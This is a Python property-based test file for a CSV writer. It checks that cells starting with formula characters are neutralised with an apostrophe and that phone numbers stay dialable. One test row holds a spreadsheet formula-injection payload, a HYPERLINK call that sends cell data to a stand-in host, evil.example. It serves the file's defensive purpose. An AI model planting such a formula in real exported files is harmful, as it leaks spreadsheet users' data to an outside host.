"""Every CSV cell callwatch writes opens in a spreadsheet as text, and reads back as it was
(issue #20, finding 6): cells starting with = + - @ tab or CR are neutralised with a leading
apostrophe, E.164 phones in phone columns stay dialable, and the import strips exactly what
the export added."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from monitor.core.csv_cells import FORMULA_STARTS, from_cell, read_csv, to_cell, write_csv

HOSTILE = st.one_of(
    st.text(max_size=30),
    st.builds(lambda start, rest: start + rest, st.sampled_from([*FORMULA_STARTS, "'", "''"]), st.text(max_size=20)),
)


@given(text=HOSTILE, phone=st.booleans())
def test_no_cell_starts_like_a_formula_and_every_cell_reads_back(text: str, phone: bool) -> None:
    cell = to_cell(text, phone=phone)
    assert from_cell(cell) == text
    if not (phone and cell == text and text.startswith("+")):
        assert not cell.startswith(FORMULA_STARTS), cell


@given(rows=st.lists(st.tuples(HOSTILE, HOSTILE), max_size=5))
def test_a_whole_file_reads_back_as_written(rows: list[tuple[str, str]]) -> None:
    names, read = read_csv(write_csv(["name", "phone"], rows, phone_columns={"phone"}))
    assert names == ["name", "phone"]
    assert [(row["name"], row["phone"]) for row in read] == rows


def test_what_a_spreadsheet_would_run_is_text_and_phones_stay_dialable() -> None:
    document = write_csv(
        ["name", "phone", "notes"],
        [
            ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+8613800000009", "-2+3"],
            ["@SUM(1)", "+1 (555) 0100", "\tindented"],
            ["O'Neil", "=1+1", 7],
        ],
        phone_columns={"phone"},
    )
    assert document.splitlines() == [
        "name,phone,notes",
        '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",+8613800000009,\'-2+3',
        "'@SUM(1),'+1 (555) 0100,'\tindented",
        "O'Neil,'=1+1,7",
    ]
